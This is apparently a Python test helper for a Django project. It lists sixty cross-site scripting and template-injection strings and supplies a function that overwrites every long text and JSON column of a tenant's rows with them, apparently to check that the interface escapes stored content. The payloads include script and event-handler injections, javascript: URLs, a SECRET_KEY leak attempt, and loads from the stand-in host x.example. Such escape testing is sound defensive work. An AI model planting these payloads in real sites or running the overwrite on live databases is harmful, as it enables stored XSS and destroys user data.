"""Sixty strings that try to become markup, script or style, and a way to put them into every text of a tenant."""

from typing import Any

from django.apps import apps
from django.db import models

#: A string that is executed calls `ran()`, and the test counts the calls.
STRINGS = (
    "<script>ran(1)</script>",
    "<ScRiPt >ran(2)</ScRiPt>",
    '"><script>ran(3)</script>',
    "'><script>ran(4)</script>",
    "</title><script>ran(5)</script>",
    "</script><script>ran(6)</script>",
    "</textarea><script>ran(7)</script>",
    "</style><script>ran(8)</script>",
    "--><script>ran(9)</script>",
    "]]><script>ran(10)</script>",
    "<script src=//x.example/a.js></script>",
    "<script/src=data:,ran(12)></script>",
    "<script type=module>ran(13)</script>",
    "<script>ran(14)",
    "<<script>ran(15)//<</script>",
    "<img src=x onerror=ran(16)>",
    '"><img src=x onerror=ran(17)>',
    "'><img src=x onerror='ran(18)'>",
    "<img src=x:x onerror=ran(19)//",
    "<img/src/onerror=ran(20)>",
    "<svg onload=ran(21)>",
    "<svg><script>ran(22)</script></svg>",
    "<svg><animate onbegin=ran(23) attributeName=x dur=1s>",
    "</svg><svg/onload=ran(24)>",
    "<svg><a xlink:href=javascript:ran(25)>x</a></svg>",
    "<svg><foreignObject><iframe/onload=ran(26)>",
    "<math><mtext></p><img src=x onerror=ran(27)>",
    "<iframe src=javascript:ran(28)>",
    "<iframe srcdoc='<script>ran(29)</script>'>",
    "<object data=javascript:ran(30)>",
    "<embed src=javascript:ran(31)>",
    "<base href=//x.example/>",
    "<link rel=stylesheet href=//x.example/a.css>",
    "<meta http-equiv=refresh content=0;url=//x.example>",
    "<style>*{background:url(//x.example/a)}</style>",
    "<style>@import'//x.example/a.css';</style>",
    "<form action=//x.example><button>x",
    "<input autofocus onfocus=ran(38)>",
    "<select autofocus onfocus=ran(39)>",
    "<details open ontoggle=ran(40)>",
    "<video><source onerror=ran(41)>",
    "<audio src=x onerror=ran(42)>",
    "<body onload=ran(43)>",
    "<marquee onstart=ran(44)>",
    '" onmouseover=ran(45) x="',
    "' onfocus=ran(46) autofocus x='",
    '" autofocus onfocus=ran(47) x="',
    '" style="background:red" x="',
    "` onerror=ran(49) `",
    "javascript:ran(50)",
    "JaVaScRiPt:ran(51)//",
    "data:text/html,<script>ran(52)</script>",
    "{{ constructor.constructor('ran(53)')() }}",
    "${ran(54)}",
    "{% debug %}{{ settings.SECRET_KEY }}",
    "';ran(56);'",
    '";ran(57);"',
    "\\u003cscript\\u003eran(58)\\u003c/script\\u003e",
    "&lt;script&gt;ran(59)&lt;/script&gt;",
    "<a href=javascript:ran(60) hx-get=/logout/ hx-trigger=load>x</a>",
)
ALL = "\n".join(STRINGS)
#: Columns with no free text of people or stations: our own names, secrets, addresses, words from a list.
OURS = frozenset(
    [
        "serial",
        "slug",
        "username",
        "email",
        "password",
        "state",
        "phase",
        "rule",
        "system",
        "key",
        "token_hash",
        "hashed_key",
        "prefix",
        "message_id",
        "channel",
        "routing_key",
        "exchange",
        "reason",
        "action",
        "timezone",
        "rrule",
        "language",
        "stream",
        "branch",
        "kind",
        "role",
        "scope",
        "origin",
        "port",
        "status",
        "generation",
        "code",
        "code_hash",
        "token",
        "recipient",
        "file",
        "path",
        "content_type",
        "data_counter",
        "suspended_reason",
        "target",
        "quantity",
        "unit",
        "match_name",
        "grammar",
        "method",
        "fingerprint",
        "digest",
        "secret_hash",
        "board",
        "card",
    ]
)


def spoil(app_labels: tuple[str, ...]) -> int:
    """Put the strings into every text of these apps' rows; return the number of columns changed."""
    spoiled = 0
    for model in apps.get_models():
        if model._meta.app_label not in app_labels:
            continue
        for field in model._meta.concrete_fields:
            if _is_spoilt(field):
                spoiled += 1
                for number, row in enumerate(model._default_manager.order_by("pk")):
                    value = _hostile(field, getattr(row, field.attname), number)
                    model._default_manager.filter(pk=row.pk).update(**{field.attname: value})
    return spoiled


def _is_spoilt(field: models.Field[Any, Any]) -> bool:
    if field.name in OURS or field.choices or field.primary_key or field.name.endswith(("_hash", "_key", "_id")):
        return False
    if isinstance(field, models.CharField) and (field.max_length or 0) < 40:
        return False
    return isinstance(field, models.CharField | models.TextField | models.JSONField)


def _hostile(field: models.Field[Any, Any], value: Any, number: int) -> Any:
    if isinstance(field, models.JSONField):
        return _leaves(value)
    if isinstance(field, models.CharField):
        most = field.max_length or 1_000
        fitting = [text for text in STRINGS if len(text) + 6 <= most]
        # Names may have to be unique, so each row gets its number.
        return f"{fitting[number % len(fitting)]}{number}"
    return ALL


def _leaves(value: Any) -> Any:
    """The same object with every text in it replaced."""
    if isinstance(value, dict):
        return {name: _leaves(inner) for name, inner in value.items()}
    if isinstance(value, list):
        return [_leaves(inner) for inner in value]
    return ALL if isinstance(value, str) else value
